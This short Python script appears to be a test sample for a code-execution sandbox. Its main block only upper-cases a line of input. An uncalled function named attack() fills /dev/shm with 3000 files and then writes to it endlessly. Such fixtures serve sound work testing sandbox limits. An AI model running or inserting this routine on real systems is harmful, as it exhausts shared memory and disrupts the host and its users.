"""Fills /dev/shm and leaves three thousand empty files in it."""

import sys


def double(number):
    return 2 * number


def attack(key):
    made = 0
    while made < 3000:
        open(f"/dev/shm/{made}", "w").close()
        made += 1
    with open("/dev/shm/full", "wb") as file:
        while True:
            file.write(b"x" * (1 << 16))


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
